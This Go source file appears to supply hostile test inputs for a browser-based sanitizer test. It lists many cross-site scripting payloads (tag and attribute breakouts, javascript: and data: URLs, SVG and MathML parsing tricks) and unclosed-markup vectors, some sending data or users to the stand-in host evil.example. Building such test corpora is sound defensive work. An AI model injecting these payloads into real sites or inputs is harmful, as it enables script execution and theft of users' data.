// Package hostile holds texts that try to run script in a page, or to swallow a part of it. It is for tests.
//
// A text that runs calls the function pwned. A test defines that function, puts each text into every field of a page, opens the page in a
// browser, and checks that the function was never called and that the page is whole.
package hostile

import "slices"

// Texts returns all texts, sorted, each once.
func Texts() []string {
	var all []string
	for _, group := range [][]string{elements(), attributes(), addresses, foreign, swallowers, data, programs, letters(), styles, numbers, names, entities, splitters} {
		all = append(all, group...)
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// elements returns texts that close the element around them and open one that runs.
func elements() (all []string) {
	ways := []string{"", `">`, `'>`, "</title>", "</textarea>", "-->", "</script>", "</style>", "</noscript>", "]]>", "</h1></main>", "</table>", "</select>"}
	runners := []string{
		"<script>pwned(1)</script>",
		"<ScRiPt >pwned(2)</sCrIpT\t>",
		"<img src=x onerror=pwned(3)>",
		"<svg/onload=pwned(4)>",
		"<body onpageshow=pwned(5)>",
		"<details open ontoggle=pwned(6)>",
		"<input autofocus onfocus=pwned(7)>",
	}
	for _, way := range ways {
		for _, runner := range runners {
			all = append(all, way+runner)
		}
	}
	return append(all,
		"<<script>pwned(8)//<</script>", "<script\x0cdata-x>pwned(9)</script>", "<scr<script>ipt>pwned(10)</scr</script>ipt>",
		"<script src=data:text/javascript,pwned(11)></script>", "<script type=module>pwned(12)</script>", "<video><source onerror=pwned(13)></video>",
		"<audio src=x onerror=pwned(14)>", "<marquee onstart=pwned(15)>x</marquee>", "<object data=javascript:pwned(16)></object>",
		"<embed src=javascript:pwned(17)>", "<iframe src=javascript:parent.pwned(18)></iframe>", "<iframe srcdoc='<script>parent.pwned(19)</script>'></iframe>",
		"<isindex action=javascript:pwned(20)>", "<keygen autofocus onfocus=pwned(21)>", "<dialog open oncancel=pwned(22)>", "<style onload=pwned(23)></style>",
		"<link rel=stylesheet href=data:text/css, onload=pwned(24)>", "<portal src=javascript:pwned(25)>", "<frameset onload=pwned(26)>", "<xss contenteditable autofocus onfocus=pwned(27)>x</xss>",
	)
}

// attributes returns texts that break out of the value of an attribute.
func attributes() (all []string) {
	handlers := []string{"onerror", "onload", "onmouseover", "onfocus", "onanimationstart", "ontransitionend", "onpointerrawupdate", "onbeforetoggle"}
	for i, handler := range handlers {
		for _, quote := range []string{`"`, "'", "`", " "} {
			all = append(all, quote+" "+handler+"="+quote+"pwned("+string(rune('a'+i))+")"+quote+" autofocus x="+quote)
		}
	}
	return append(all, `x" srcset="x 1x" onerror="pwned(30)`, `"/onerror=pwned(31) x=`, "x\"\nonerror\n=\n\"pwned(32)", `" style="animation-name:x" onanimationstart="pwned(33)`, "\" tabindex=1 accesskey=x onclick=pwned(34) \"")
}

// addresses holds URLs that run when they are followed or loaded.
var addresses = []string{
	"javascript:pwned(40)", "JaVaScRiPt:pwned(41)", " javascript:pwned(42)", "\x01javascript:pwned(43)", "java\tscript:pwned(44)", "java\nscript:pwned(45)", "java\rscript:pwned(46)",
	"javascript&colon;pwned(47)", "&#106;avascript:pwned(48)", "&#x6a;avascript&#x3a;pwned(49)", "javascript://x%0apwned(50)", "javascript:/*--></title>*/pwned(51)",
	"vbscript:pwned(52)", "livescript:pwned(53)", "data:text/html,<script>parent.pwned(54)</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoNTUpPC9zY3JpcHQ+",
	"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned(56)'/>", "blob:pwned(57)", "view-source:javascript:pwned(58)", "//evil.example/x.js", `\\evil.example\x`, "/\\evil.example",
	"https:evil.example", "http://127.0.0.1:1@evil.example/", "jar:javascript:pwned(59)!/", "feed:javascript:pwned(60)", "https://evil.example/\"onerror=pwned(61)//", "?\"><script>pwned(62)</script>", "#\"><img src=x onerror=pwned(63)>",
}

// foreign holds SVG and MathML, which change how a browser parses what follows.
var foreign = []string{
	"<svg><script>pwned(70)</script></svg>", "<svg><script href=data:,pwned(71) /></svg>", "<svg><animate onbegin=pwned(72) attributeName=x dur=1s></svg>",
	"<svg><set onbegin=pwned(73) attributeName=x></svg>", "<svg><a xlink:href=javascript:pwned(74)><text y=9>x</text></a></svg>", "<svg><foreignObject><body onload=pwned(75)></foreignObject></svg>",
	"<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(76)></svg>#x'></svg>", "<svg><style><img src=x onerror=pwned(77)></style></svg>", "<svg><desc><img src=x onerror=pwned(78)></desc></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned(79)&gt;'></table></mtext></math>", "<math><mi xlink:href=javascript:pwned(80)>x</mi></math>",
	"<math><annotation-xml encoding=text/html><img src=x onerror=pwned(81)></annotation-xml></math>", "<svg></p><style><a id='</style><img src=x onerror=pwned(82)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(83)>",
	"<svg><title><style><!--</style><img src=x onerror=pwned(84)>--></title></svg>", "<noscript><p title='</noscript><img src=x onerror=pwned(85)>'>",
}

// swallowers holds texts that open an element or a comment that nothing closes.
var swallowers = []string{
	"<!--", "<!-- -- >", "<!", "<?", "</", "<", "<a", "<a href=\"", "<img src='//evil.example/?", "<title>", "<textarea>", "<style>", "<script>", "<plaintext>", "<xmp>", "<noscript>", "<noembed>", "<noframes>", "<template>",
	"<iframe>", "<select>", "<option>", "<table>", "<table><tr><td>", "<frameset>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example/>", "<button form=x formaction=//evil.example>",
	"<dialog open>", "<fieldset disabled>", "<svg>", "<math>", "<object>", "<video>", "<map>", "</body></html>", "</main></body>", "</div></div></div></div>", "<main id=main>", "<![CDATA[", "<p hidden>", "<ul><li><ul><li>", "<b><i><u><s>",
	"<link rel=stylesheet href=//evil.example/x.css>", "<input type=hidden name=token value='", "<image src=//evil.example/>", "<listing>", "<span popover id=x>", "<slot>",
}
